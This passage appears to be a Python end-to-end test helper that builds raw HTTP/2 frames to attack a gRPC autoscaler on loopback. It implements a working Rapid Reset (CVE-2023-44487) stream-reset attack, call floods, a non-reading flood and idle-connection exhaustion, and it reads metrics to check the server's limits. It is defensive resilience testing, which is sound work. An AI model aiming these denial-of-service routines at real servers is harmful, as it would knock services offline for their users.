"""Hostile HTTP/2 peers for the gRPC port, and what to read off the server while they run.

Frames are built by hand, with no state machine on our side: an attacker sends what no library would, and
fast. ``RawPeer`` reads the server's frames back (HPACK-decoding its header blocks) so that a test can wait
for a GOAWAY, a RST_STREAM, a stream's messages or its status. ``silent_flood`` is a peer that never reads.
``scrape``/``metric`` read /metrics, ``rss_mib``/``open_fds`` read /proc, and ``GoodCaller`` polls GetMetrics
beside an attack on its own grpcio channel, as KEDA does.

``python -m e2e.support.attacks NAME --port PORT ...`` runs one attack in a process of its own and prints one
JSON line of what it saw: the grpcio cancels of e2e/test_hostile_transport.py, and every full-size attack of
bench/attacks.py (so that the attacker's CPU is not the measuring loop's). Every loop is bounded in count and
in time.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import functools
import json
import os
import socket
import ssl
import statistics
import struct
import sys
import tempfile
import time
import urllib.request
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import grpc
import hpack
from h2.errors import ErrorCodes
from prometheus_client.parser import text_string_to_metric_families

from e2e.support.agent import CONSOLE_SCRIPT
from e2e.support.clients import RpcFailure, ScalerClient
from e2e.support.keda_grpcio import generate
from e2e.support.process import Process, environment
from e2e.support.raw_h2 import PREFACE, grpc_frame
from gpuscaler.generated.externalscaler import GetMetricsRequest, ScaledObjectRef

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE = 0x1, 0x3, 0x4

IS_ACTIVE = "/externalscaler.ExternalScaler/IsActive"
GET_METRICS = "/externalscaler.ExternalScaler/GetMetrics"
STREAM_IS_ACTIVE = "/externalscaler.ExternalScaler/StreamIsActive"
METRIC_NAME = "gpuscaler-gpu_utilization-sum-gpu0"  # what GetMetricSpec names {"gpuIndex": "0"}
GOOD_QUERY = {"gpuIndex": "0"}
BIG_WINDOW = 2**30  # what our peers open their receive windows to: flow control never holds the server back


# Frames


def frame(kind: int, stream_id: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def settings_frame(values: Mapping[int, int] | None = None, *, ack: bool = False) -> bytes:
    """SETTINGS with ``values`` (setting id -> value), or its ACK."""
    payload = b"".join(struct.pack(">HI", key, value) for key, value in (values or {}).items())
    return frame(SETTINGS, 0, payload, ACK if ack else 0)


def ping_frame(data: bytes = b"\0" * 8, *, ack: bool = False) -> bytes:
    """PING with 8 bytes of opaque data, or its ACK."""
    return frame(PING, 0, data, ACK if ack else 0)


def rst_stream_frame(stream_id: int, code: int = ErrorCodes.CANCEL) -> bytes:
    """RST_STREAM with ``code`` (CANCEL, as a client that gives up sends)."""
    return frame(RST_STREAM, stream_id, struct.pack(">I", code))


def window_update_frame(stream_id: int, increment: int) -> bytes:
    """WINDOW_UPDATE of ``increment`` on ``stream_id`` (0: the connection); any value, 0 and overflows included."""
    return frame(WINDOW_UPDATE, stream_id, struct.pack(">I", increment))


def client_start(*, window: int = BIG_WINDOW, settings: Mapping[int, int] | None = None) -> bytes:
    """The preface, our SETTINGS (a large stream window unless told) and a connection WINDOW_UPDATE to ``window``."""
    values = {SETTINGS_INITIAL_WINDOW_SIZE: min(window, 2**31 - 1), **(settings or {})}
    update = window_update_frame(0, window - 65_535) if window > 65_535 else b""
    return PREFACE + settings_frame(values) + update


def header_block(
    path: str, *, authority: str = "127.0.0.1", timeout: str | None = None, extra: Sequence[tuple[str, str]] = ()
) -> bytes:
    """A gRPC request's header block, every field a never-indexed literal: the same bytes serve any stream.

    Nothing enters the server's HPACK table, so one encoded block can be sent again and again.
    """
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *((("grpc-timeout", timeout),) if timeout else ()),
        *extra,
    ]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in fields]))


def request_frames(stream_id: int, block: bytes, body: bytes | None) -> bytes:
    """HEADERS, then DATA with END_STREAM; with ``body`` None the HEADERS alone, the request never sent."""
    if body is None:
        return frame(HEADERS, stream_id, block, END_HEADERS)
    return frame(HEADERS, stream_id, block, END_HEADERS) + frame(DATA, stream_id, body, END_STREAM)


def ref_body(metadata: Mapping[str, str] | None = None, *, name: str = "app") -> bytes:
    """A ScaledObjectRef as a gRPC message: the request of IsActive and StreamIsActive."""
    metadata = dict(GOOD_QUERY if metadata is None else metadata)
    return grpc_frame(bytes(ScaledObjectRef(name=name, namespace="ml", scaler_metadata=metadata)))


def metrics_body(metadata: Mapping[str, str] | None = None, metric_name: str = METRIC_NAME) -> bytes:
    """A GetMetricsRequest as a gRPC message."""
    ref = ScaledObjectRef(
        name="app", namespace="ml", scaler_metadata=dict(GOOD_QUERY if metadata is None else metadata)
    )
    return grpc_frame(bytes(GetMetricsRequest(scaled_object_ref=ref, metric_name=metric_name)))


def error_name(code: int) -> str:
    """An HTTP/2 error code's name (ENHANCE_YOUR_CALM), or its hex value when it has none."""
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


@dataclass(frozen=True, slots=True)
class Frame:
    """One frame the server sent; ``headers`` decoded for HEADERS (with its CONTINUATIONs)."""

    kind: int
    flags: int
    stream_id: int
    payload: bytes
    headers: tuple[tuple[str, str], ...] = ()

    @property
    def error_code(self) -> int:
        """GOAWAY's or RST_STREAM's error code."""
        if self.kind == GOAWAY:
            return int(struct.unpack(">I", self.payload[4:8])[0])
        return int(struct.unpack(">I", self.payload[:4])[0])

    @property
    def error(self) -> str:
        return error_name(self.error_code)

    @property
    def last_stream_id(self) -> int:
        return int(struct.unpack(">I", self.payload[:4])[0]) & 0x7FFFFFFF

    @property
    def debug_data(self) -> bytes:
        return self.payload[8:]

    @property
    def settings(self) -> dict[int, int]:
        pairs = (struct.unpack(">HI", self.payload[i : i + 6]) for i in range(0, len(self.payload) - 5, 6))
        return {int(key): int(value) for key, value in pairs}

    def __repr__(self) -> str:
        kind = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE"}
        name = kind.get(self.kind, str(self.kind))
        detail = ""
        if self.kind in (GOAWAY, RST_STREAM):
            detail = f" {self.error}" + (
                f" last={self.last_stream_id} {self.debug_data!r}" if self.kind == GOAWAY else ""
            )
        elif self.headers:
            detail = f" {dict(self.headers)}"
        return f"<{name} stream={self.stream_id}{detail}>"


class FrameReader:
    """Frames out of the bytes a server sends, header blocks decoded with one HPACK decoder, in order."""

    def __init__(self) -> None:
        self._buffer = bytearray()
        self._decoder = hpack.Decoder()
        self._block: tuple[int, int, bytearray] | None = None  # HEADERS waiting for its CONTINUATIONs

    def feed(self, data: bytes) -> list[Frame]:
        self._buffer += data
        frames = []
        while len(self._buffer) >= 9:
            length = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + length:
                break
            kind, flags = self._buffer[3], self._buffer[4]
            stream_id = int.from_bytes(self._buffer[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self._buffer[9 : 9 + length])
            del self._buffer[: 9 + length]
            if kind == HEADERS:
                self._block = (stream_id, flags, bytearray(_headers_fragment(flags, payload)))
            elif kind == CONTINUATION and self._block is not None:
                self._block[2].extend(payload)
                flags |= self._block[1] & END_STREAM
            else:
                frames.append(Frame(kind, flags, stream_id, payload))
                continue
            if flags & END_HEADERS and self._block is not None:
                stream, first_flags, block = self._block
                self._block = None
                decoded = tuple((str(k), str(v)) for k, v in self._decoder.decode(bytes(block)))
                frames.append(Frame(HEADERS, first_flags | END_HEADERS, stream, bytes(block), decoded))
        return frames


def _headers_fragment(flags: int, payload: bytes) -> bytes:
    start, end = 0, len(payload)
    if flags & 0x8:  # PADDED
        end -= payload[0]
        start = 1
    if flags & 0x20:  # PRIORITY
        start += 5
    return payload[start:end]


# A peer that reads


@dataclass
class RawPeer:
    """One hand-driven HTTP/2 connection: sends what it is given, and reads every frame the server sends back.

    It acknowledges the server's SETTINGS (so that the server's announced limits apply) and nothing else.
    """

    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    frames: list[Frame] = field(default_factory=list)
    closed_at: float | None = None
    close_reason: str = ""
    sent_bytes: int = 0
    _parser: FrameReader = field(default_factory=FrameReader)
    _changed: asyncio.Event = field(default_factory=asyncio.Event)
    _task: asyncio.Task[None] | None = None

    @classmethod
    async def open(
        cls,
        port: int,
        *,
        start: bytes | None = None,
        tls: ssl.SSLContext | None = None,
        server_hostname: str | None = None,
        timeout: float = 5.0,
        ready: bool = True,
        source: str | None = None,
    ) -> RawPeer:
        """Connect (from the loopback address ``source``, if given) and send ``start`` (default: ``client_start()``;
        ``b""`` sends nothing).

        With ``ready`` (and a ``start``), return once the server's SETTINGS came and were acknowledged: h2
        applies the limits the server announces (MAX_CONCURRENT_STREAMS) only from the ACK on, and holds a
        peer to its own default of 100 streams until then.
        """
        async with asyncio.timeout(timeout):
            reader, writer = await asyncio.open_connection(
                "127.0.0.1",
                port,
                ssl=tls,
                server_hostname=server_hostname if tls else None,
                limit=2**20,
                local_addr=(source, 0) if source else None,
            )
        peer = cls(reader, writer)
        peer._task = asyncio.create_task(peer._read())
        await peer.send(client_start() if start is None else start)
        if ready and start != b"":
            await peer.wait_for(lambda: bool(peer.server_settings), "the server's SETTINGS", timeout=timeout)
        return peer

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(65_536):
                for received in self._parser.feed(data):
                    self.frames.append(received)
                    if received.kind == SETTINGS and not received.flags & ACK:
                        self.writer.write(settings_frame(ack=True))
                self._changed.set()
            self.close_reason = "EOF"
        except (ConnectionError, ssl.SSLError, OSError) as error:
            self.close_reason = type(error).__name__
        finally:
            self.closed_at = time.monotonic()
            self._changed.set()

    async def send(self, data: bytes) -> bool:
        """Write ``data``; False if the server has closed the connection (nothing is raised)."""
        if self.closed_at is not None or self.writer.is_closing():
            return False
        try:
            self.writer.write(data)
            await self.writer.drain()
        except (ConnectionError, ssl.SSLError, OSError):
            return False
        self.sent_bytes += len(data)
        return True

    async def wait_for(self, found: Callable[[], bool], what: str, timeout: float = 10.0) -> None:
        """Return once ``found()`` holds (checked at each frame); AssertionError naming ``what`` after ``timeout``."""
        deadline = time.monotonic() + timeout
        while not found():
            left = deadline - time.monotonic()
            if left <= 0 or (self.closed and not found()):
                raise AssertionError(f"{what}: not seen within {timeout:g}s ({self.describe()})")
            self._changed.clear()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(min(left, 0.5)):
                    await self._changed.wait()

    async def wait_closed(self, timeout: float = 10.0) -> float:
        """Wait for the server to close the connection; the monotonic time it did."""
        async with asyncio.timeout(timeout):
            while self.closed_at is None:
                self._changed.clear()
                await self._changed.wait()
        return self.closed_at

    async def wait_goaway(self, timeout: float = 10.0) -> Frame:
        """The server's GOAWAY, waited for; AssertionError if the connection closes without one."""
        deadline = time.monotonic() + timeout
        while (goaway := self.goaway) is None:
            if self.closed_at is not None:
                raise AssertionError(f"the server closed the connection without a GOAWAY ({self.describe()})")
            left = deadline - time.monotonic()
            if left <= 0:
                raise AssertionError(f"no GOAWAY within {timeout:g}s ({self.describe()})")
            self._changed.clear()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(left):
                    await self._changed.wait()
        return goaway

    @property
    def closed(self) -> bool:
        return self.closed_at is not None

    @property
    def goaway(self) -> Frame | None:
        return next((f for f in self.frames if f.kind == GOAWAY), None)

    @property
    def server_settings(self) -> dict[int, int]:
        """What the server's SETTINGS frames (not ACKs) have set so far, later ones over earlier ones."""
        merged: dict[int, int] = {}
        for received in self.frames:
            if received.kind == SETTINGS and not received.flags & ACK:
                merged.update(received.settings)
        return merged

    def reset_code(self, stream_id: int) -> int | None:
        return next((f.error_code for f in self.frames if f.kind == RST_STREAM and f.stream_id == stream_id), None)

    def headers(self, stream_id: int) -> dict[str, str]:
        """The stream's response headers and trailers, merged."""
        merged: dict[str, str] = {}
        for received in self.frames:
            if received.kind == HEADERS and received.stream_id == stream_id:
                merged.update(received.headers)
        return merged

    def messages(self, stream_id: int) -> int:
        """DATA frames with a payload the server sent on the stream (one gRPC message each, for our answers)."""
        return sum(1 for f in self.frames if f.kind == DATA and f.stream_id == stream_id and f.payload)

    def ended(self, stream_id: int) -> bool:
        """The server ended the stream: END_STREAM, or RST_STREAM."""
        return any(
            f.stream_id == stream_id and (f.kind == RST_STREAM or (f.kind in (HEADERS, DATA) and f.flags & END_STREAM))
            for f in self.frames
        )

    def describe(self, last: int = 8) -> str:
        state = f"closed ({self.close_reason})" if self.closed else "open"
        return f"{len(self.frames)} frames, {state}, last: {self.frames[-last:]}"

    async def close(self) -> None:
        self.writer.close()
        with contextlib.suppress(Exception):
            await self.writer.wait_closed()
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._task


@contextlib.asynccontextmanager
async def raw_peer(port: int, **options: Any) -> AsyncIterator[RawPeer]:
    """``RawPeer.open`` for the block, closed after it."""
    peer = await RawPeer.open(port, **options)
    try:
        yield peer
    finally:
        await peer.close()


# Attacks


@dataclass
class RapidReset:
    """What ``rapid_reset`` did: streams opened and reset, connections used, and the server's answers."""

    resets_sent: int = 0
    connections: int = 0
    goaways: Counter[str] = field(default_factory=Counter)
    closed_by_server: int = 0
    seconds: float = 0.0


async def reset_streams(
    peer: RawPeer,
    count: int,
    *,
    batch: int = 100,
    first_stream: int = 1,
    deadline: float | None = None,
    path: str = IS_ACTIVE,
    body: bytes | None = None,
    timeout: str | None = None,
) -> int:
    """CVE-2023-44487 on ``peer``: HEADERS, DATA and RST_STREAM for ``count`` streams, ``batch`` to a write.

    With ``timeout`` (a grpc-timeout such as ``100m``) each call claims that deadline, as if every reset were
    the client giving up at it. Stops early once the server sends GOAWAY or closes the connection, or at
    ``deadline`` (monotonic), as an attacker that reads would; the resets sent.
    """
    block = header_block(path, timeout=timeout)
    message = ref_body() if body is None else body
    sent = 0
    stream_id = first_stream
    while sent < count and peer.goaway is None and not peer.closed:
        if deadline is not None and time.monotonic() > deadline:
            break
        chunk = bytearray()
        for _ in range(min(batch, count - sent)):
            chunk += request_frames(stream_id, block, message) + rst_stream_frame(stream_id)
            stream_id += 2
        if not await peer.send(bytes(chunk)):
            break
        sent += min(batch, count - sent)
        await asyncio.sleep(0)  # let the reader see a GOAWAY between batches
    return sent


async def rapid_reset(
    port: int,
    count: int,
    *,
    batch: int = 100,
    reconnect: bool = False,
    seconds: float = 60.0,
    timeout: str | None = None,
    per_connection: int | None = None,
    source: str | None = None,
) -> RapidReset:
    """``reset_streams`` until ``count`` resets are sent: on one connection, or (``reconnect``) on a new one
    each time the server closes the last, or (``per_connection``) after that many resets whether or not it
    did. ``timeout`` is each call's grpc-timeout; ``source`` the loopback address it connects from. Stops after
    ``seconds`` in any case."""
    result = RapidReset()
    started = time.monotonic()
    deadline = started + seconds
    while result.resets_sent < count and time.monotonic() < deadline:
        async with raw_peer(port, source=source) as peer:
            result.connections += 1
            want = min(count - result.resets_sent, per_connection or count)
            sent = await reset_streams(peer, want, batch=batch, deadline=deadline, timeout=timeout)
            result.resets_sent += sent
            wait = max(0.0, min(10.0, deadline - time.monotonic()))
            if per_connection is None or sent < want:
                with contextlib.suppress(TimeoutError):
                    await peer.wait_closed(timeout=wait)
            else:  # the server answers a PING once it has read every frame before it: the resets all counted
                await peer.send(ping_frame(b"resets!!"))
                with contextlib.suppress(AssertionError):
                    await peer.wait_for(functools.partial(_pinged, peer), "the PING's ACK", timeout=wait)
            if peer.goaway is not None:
                result.goaways[peer.goaway.error] += 1
            result.closed_by_server += peer.closed
        if not reconnect and per_connection is None:
            break
    result.seconds = time.monotonic() - started
    return result


def _pinged(peer: RawPeer) -> bool:
    """The server has acknowledged a PING, or cut the peer off."""
    return peer.goaway is not None or any(f.kind == PING and f.flags & ACK for f in peer.frames)


@dataclass
class CallFlood:
    """What ``call_flood`` did: calls sent and answered, and whether the server cut the connection off."""

    sent: int = 0
    answered: int = 0
    refused: int = 0
    goaway: str | None = None
    closed_by_server: bool = False
    seconds: float = 0.0


async def call_flood(
    peer: RawPeer,
    count: int,
    *,
    in_flight: int = 1000,
    batch: int = 100,
    seconds: float = 60.0,
    path: str = GET_METRICS,
    body: bytes | None = None,
) -> CallFlood:
    """Plain calls (HEADERS and DATA, never reset) on ``peer`` as fast as they are answered: up to ``count``,
    ``in_flight`` unanswered at most, ``batch`` to a write; stops at a GOAWAY, the close, or after ``seconds``.

    What the server answers is counted as it comes and then dropped, so a long flood holds no frames.
    """
    result = CallFlood()
    block, message = header_block(path), metrics_body() if body is None else body
    started = time.monotonic()
    deadline = started + seconds
    stream_id = 1
    while result.answered + result.refused < count and time.monotonic() < deadline:
        for received in peer.frames:
            if received.kind == GOAWAY:
                result.goaway = received.error
            elif received.kind == RST_STREAM:
                result.refused += 1
            elif received.kind == HEADERS and received.flags & END_STREAM:
                result.answered += 1
        peer.frames.clear()
        if result.goaway is not None or peer.closed:
            break
        room = min(in_flight - (result.sent - result.answered - result.refused), count - result.sent, batch)
        if room > 0:
            chunk = b"".join(request_frames(stream_id + 2 * i, block, message) for i in range(room))
            stream_id += 2 * room
            if not await peer.send(chunk):
                break
            result.sent += room
            await asyncio.sleep(0)
            continue
        peer._changed.clear()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(min(0.5, max(0.0, deadline - time.monotonic()))):
                await peer._changed.wait()
    result.closed_by_server = peer.closed
    result.seconds = time.monotonic() - started
    return result


def open_streams(first_stream: int, count: int, *, path: str = STREAM_IS_ACTIVE, body: bytes | None = None) -> bytes:
    """``count`` requests on streams ``first_stream``, +2, ...; ``body`` None sends HEADERS only."""
    block = header_block(path)
    return b"".join(request_frames(first_stream + 2 * i, block, body) for i in range(count))


@dataclass
class SilentFlood:
    """What a peer that never reads saw: what it managed to send, and what was waiting for it at the end."""

    frames_sent: int = 0
    bytes_sent: int = 0
    send_blocked: bool = False  # a send made no progress for ``stall_seconds``: the server stopped reading
    closed_by_server: bool = False
    seconds: float = 0.0
    frames: list[Frame] = field(default_factory=list)

    @property
    def goaway(self) -> Frame | None:
        return next((f for f in self.frames if f.kind == GOAWAY), None)


def silent_flood(
    port: int,
    unit: bytes | Callable[[int], bytes],
    *,
    count: int,
    seconds: float,
    start: bytes | None = None,
    batch: int = 200,
    receive_buffer: int = 4096,
    stall_seconds: float = 2.0,
    wait_close_seconds: float = 10.0,
) -> SilentFlood:
    """Send ``unit`` (a PING, a SETTINGS...) up to ``count`` times and never read; blocking, bounded.

    ``unit`` may be a function of the unit's index instead (a request on stream ``2 * i + 1``).
    The socket's receive buffer is made small, so that the server's answers stay on its side. After the flood
    (all sent, ``seconds`` gone, or the server stopped reading for ``stall_seconds``) the peer waits up to
    ``wait_close_seconds`` for the server to close, then reads what the server sent (a GOAWAY, if it did).
    """
    result = SilentFlood()
    started = time.monotonic()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        sock.settimeout(stall_seconds)
        sock.connect(("127.0.0.1", port))
        sock.sendall(client_start(window=65_535) if start is None else start)
        deadline = started + seconds
        while result.frames_sent < count and time.monotonic() < deadline:
            sent = result.frames_sent
            chunk = unit * batch if isinstance(unit, bytes) else b"".join(unit(i) for i in range(sent, sent + batch))
            try:
                sock.sendall(chunk)
            except TimeoutError:
                result.send_blocked = True
                break
            except (BrokenPipeError, ConnectionResetError):
                result.closed_by_server = True
                break
            result.frames_sent += batch
            result.bytes_sent += len(chunk)
        data = bytearray()
        close_by = time.monotonic() + wait_close_seconds
        sock.settimeout(0.2)
        while time.monotonic() < close_by:  # read only now: what the server left for us, then its close
            try:
                received = sock.recv(65_536)
            except TimeoutError:
                if not result.closed_by_server:
                    continue
                break
            except ConnectionResetError:
                result.closed_by_server = True
                break
            if not received:
                result.closed_by_server = True
                break
            data += received
            if len(data) > 64 * 2**20:
                break  # bounded: a server that keeps answering is not waited for
        result.frames = FrameReader().feed(bytes(data))
    except (BrokenPipeError, ConnectionResetError):
        result.closed_by_server = True
    finally:
        sock.close()
    result.seconds = time.monotonic() - started
    return result


@dataclass
class IdleConnections:
    """Connections opened and left silent (or after ``first_bytes``): when the server closed each."""

    opened: int = 0
    refused: int = 0
    closed_after: list[float] = field(default_factory=list)  # seconds from open to the server's close
    still_open: int = 0

    def summary(self) -> dict[str, Any]:
        closed = sorted(self.closed_after)
        return {
            "opened": self.opened,
            "refused_at_connect": self.refused,
            "closed_by_server": len(closed),
            "still_open": self.still_open,
            "close_after_seconds_median": round(statistics.median(closed), 3) if closed else None,
            "close_after_seconds_max": round(closed[-1], 3) if closed else None,
        }


async def idle_connections(
    port: int,
    count: int,
    *,
    hold_seconds: float,
    first_bytes: bytes = b"",
    tls: ssl.SSLContext | None = None,
    on_open: Callable[[], Awaitable[None]] | None = None,
) -> IdleConnections:
    """Open ``count`` connections (TLS ones through the handshake) that then send nothing; hold up to ``hold_seconds``.

    ``on_open`` runs once all are open (a reading of the server at its peak); each connection's close by the
    server is timed from its own open.
    """
    result = IdleConnections()
    peers: list[tuple[float, asyncio.StreamReader, asyncio.StreamWriter]] = []

    async def one() -> None:
        opened = time.monotonic()
        try:
            async with asyncio.timeout(10):
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", port, ssl=tls, server_hostname="localhost" if tls else None
                )
        except (OSError, ssl.SSLError, TimeoutError):
            result.refused += 1
            return
        result.opened += 1
        if first_bytes:
            writer.write(first_bytes)
        peers.append((opened, reader, writer))

    for start in range(0, count, 100):  # a hundred at a time: the listen backlog is not the subject
        await asyncio.gather(*(one() for _ in range(min(100, count - start))))
    if on_open is not None:
        await on_open()

    async def watch(opened: float, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(max(0.0, opened + hold_seconds - time.monotonic())):
                try:
                    while await reader.read(65_536):
                        pass
                except (OSError, ssl.SSLError):
                    pass
                result.closed_after.append(time.monotonic() - opened)
                return
        result.still_open += 1

    try:
        await asyncio.gather(*(watch(opened, reader) for opened, reader, _ in peers))
    finally:
        for _, _, writer in peers:
            writer.close()
    return result


# Readings of the server


class MissingMetric(AssertionError):
    """The server exports no series of that name at all."""


def scrape(metrics_port: int) -> list[tuple[str, dict[str, str], float]]:
    """Every sample on ``/metrics``: (sample name, labels, value)."""
    with urllib.request.urlopen(f"http://127.0.0.1:{metrics_port}/metrics", timeout=5) as response:
        text = response.read().decode()
    return [
        (sample.name, dict(sample.labels), float(sample.value))
        for family in text_string_to_metric_families(text)
        for sample in family.samples
    ]


def metric(metrics_port: int, name: str, **labels: str) -> float:
    """The sum of ``name``'s samples whose labels include ``labels``; 0 if none match, MissingMetric if no ``name``."""
    samples = [(got, value) for sample, got, value in scrape(metrics_port) if sample == name]
    if not samples:
        raise MissingMetric(f"/metrics has no {name}")
    return sum(value for got, value in samples if all(got.get(k) == v for k, v in labels.items()))


def limited(metrics_port: int, limit: str) -> float:
    """``gpuscaler_grpc_limited_total{limit=...}``: how often that limit acted."""
    return metric(metrics_port, "gpuscaler_grpc_limited_total", limit=limit)


async def until_metric(
    metrics_port: int, name: str, accept: Callable[[float], bool], *, timeout: float = 10.0, **labels: str
) -> float:
    """Scrape until ``accept`` takes ``metric(name, labels)``; that value. AssertionError after ``timeout``."""
    deadline = time.monotonic() + timeout
    while True:
        value = await asyncio.to_thread(metric, metrics_port, name, **labels)
        if accept(value):
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"{name}{labels or ''} is {value:g} after {timeout:g}s")
        await asyncio.sleep(0.05)


def rss_mib(pid: int) -> float:
    """VmRSS of the process, MiB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmRSS for {pid}")


def open_fds(pid: int) -> int:
    """File descriptors the process holds (sockets included)."""
    return len(os.listdir(f"/proc/{pid}/fd"))


@dataclass
class GoodCaller:
    """A well-behaved KEDA: GetMetrics one after another on its own channel, every latency and error kept."""

    client: ScalerClient
    metadata: Mapping[str, str] = field(default_factory=lambda: dict(GOOD_QUERY))
    metric_name: str = METRIC_NAME
    pause_seconds: float = 0.02
    timeout: float = 5.0
    latencies: list[tuple[float, float]] = field(default_factory=list)  # (monotonic start, seconds)
    errors: list[tuple[float, RpcFailure]] = field(default_factory=list)
    _task: asyncio.Task[None] | None = None
    _running: asyncio.Event = field(default_factory=asyncio.Event)

    async def _loop(self) -> None:
        while True:
            await self._running.wait()
            started = time.monotonic()
            try:
                await self.client.get_metrics(dict(self.metadata), self.metric_name, timeout=self.timeout)
            except RpcFailure as failure:
                self.errors.append((started, failure))
            else:
                self.latencies.append((started, time.monotonic() - started))
            await asyncio.sleep(self.pause_seconds)

    async def __aenter__(self) -> GoodCaller:
        self._running.set()
        self._task = asyncio.create_task(self._loop())
        await self.answered(3)
        return self

    async def __aexit__(self, *exc: object) -> None:
        if self._task is not None:
            self._task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._task

    @contextlib.contextmanager
    def paused(self) -> Iterator[None]:
        """No call starts in the block (one in flight finishes)."""
        self._running.clear()
        try:
            yield
        finally:
            self._running.set()

    async def answered(self, calls: int = 3, timeout: float = 20.0) -> None:
        """Wait for ``calls`` more answers: the caller is being served now."""
        target = len(self.latencies) + calls
        deadline = time.monotonic() + timeout
        while len(self.latencies) < target:
            if time.monotonic() > deadline:
                raise AssertionError(f"the good caller got {len(self.latencies) - target + calls} of {calls} answers")
            await asyncio.sleep(0.01)

    def since(self, start: float) -> list[float]:
        """The latencies of the calls that started at or after ``start``, seconds."""
        return [seconds for at, seconds in self.latencies if at >= start]

    def check(self) -> None:
        """No error at all, and some answers."""
        assert not self.errors, f"the good caller saw {len(self.errors)} errors, first: {self.errors[0][1]}"
        assert self.latencies, "the good caller got no answer"


@contextlib.asynccontextmanager
async def good_caller(
    client: ScalerClient, metadata: Mapping[str, str] | None = None, *, warm_seconds: float = 30.0
) -> AsyncIterator[GoodCaller]:
    """A GoodCaller on ``client`` for the block, once the server answers (a gateway needs its agents first).

    The metric name is GetMetricSpec's, as KEDA asks it.
    """
    query = dict(GOOD_QUERY if metadata is None else metadata)
    deadline = time.monotonic() + warm_seconds
    while True:
        try:
            [spec] = await client.get_metric_spec(query, timeout=5)
            await client.get_metrics(query, spec.metric_name, timeout=5)
            break
        except RpcFailure:
            if time.monotonic() > deadline:
                raise
            await asyncio.sleep(0.1)
    async with GoodCaller(client, query, spec.metric_name) as good:
        yield good


def gateway_process(agents: Sequence[str], log_dir: Path, *flags: str) -> Process:
    """A ``gpuscaler gateway`` over ``agents`` (HOST:PORT each), on ephemeral loopback ports; not started."""
    return Process(
        [
            str(CONSOLE_SCRIPT),
            "gateway",
            "--listen",
            "127.0.0.1:0",
            "--metrics-listen",
            "127.0.0.1:0",
            "--agents",
            ",".join(agents),
            "--log-format",
            "json",
            "--drain-timeout",
            "1",
            *flags,
        ],
        log_dir / f"gateway-{time.monotonic_ns()}.log",
        environment(),
        "gateway_started",
    )


def metrics_port_of(process: Process) -> int:
    """The /metrics port a gateway's (or agent's) started event gives."""
    return int(str(process.events(process.started_event)[0]["metrics_port"]))


# ``python -m e2e.support.attacks``: one attack in its own process, one JSON line out


async def _grpcio_cancels(args: argparse.Namespace) -> dict[str, Any]:
    """Streams and unary calls that grpcio cancels (RST_STREAM CANCEL), at ``--rate`` a second, on one channel."""
    with tempfile.TemporaryDirectory(prefix="grpcio-stubs-") as folder:
        proto = generate(Path(folder))
    channel = grpc.aio.insecure_channel(f"127.0.0.1:{args.port}")
    stub = proto.stub(channel)
    outcome: Counter[str] = Counter()
    cancelled = 0
    started = time.monotonic()
    try:
        await stub.IsActive(proto.ref(GOOD_QUERY), timeout=10)
        for index in range(args.count):
            due = started + index / args.rate
            if time.monotonic() - started > args.seconds:
                break
            await asyncio.sleep(max(0.0, due - time.monotonic()))
            if index % 2 == 0:  # a push stream, cancelled after its first message (KEDA dropping a ScaledObject)
                call = stub.StreamIsActive(proto.ref(GOOD_QUERY, name=f"so-{index}"))
                try:
                    async with asyncio.timeout(10):
                        await call.read()
                except TimeoutError:
                    outcome["no_first_message"] += 1
                except grpc.aio.AioRpcError as error:
                    outcome[f"stream_error:{error.code().name}"] += 1
                call.cancel()
            else:  # a unary call cancelled before its answer is read
                unary = stub.GetMetrics(proto.metrics_request(GOOD_QUERY, METRIC_NAME), timeout=10)
                await asyncio.sleep(0.0005)  # sent, most of the time; the server may also have answered
                unary.cancel()
            cancelled += 1
        # The channel is still good after all of it: a last call must answer.
        await stub.IsActive(proto.ref(GOOD_QUERY), timeout=10)
        outcome["final_call_ok"] += 1
    except grpc.aio.AioRpcError as error:
        outcome[f"error:{error.code().name}"] += 1
    finally:
        await channel.close()
    return {"cancelled": cancelled, "seconds": round(time.monotonic() - started, 2), "outcome": dict(outcome)}


async def _run(args: argparse.Namespace) -> dict[str, Any]:
    if args.attack == "grpcio-cancels":
        return await _grpcio_cancels(args)
    if args.attack == "rapid-reset":
        reset = await rapid_reset(
            args.port,
            args.count,
            reconnect=args.reconnect,
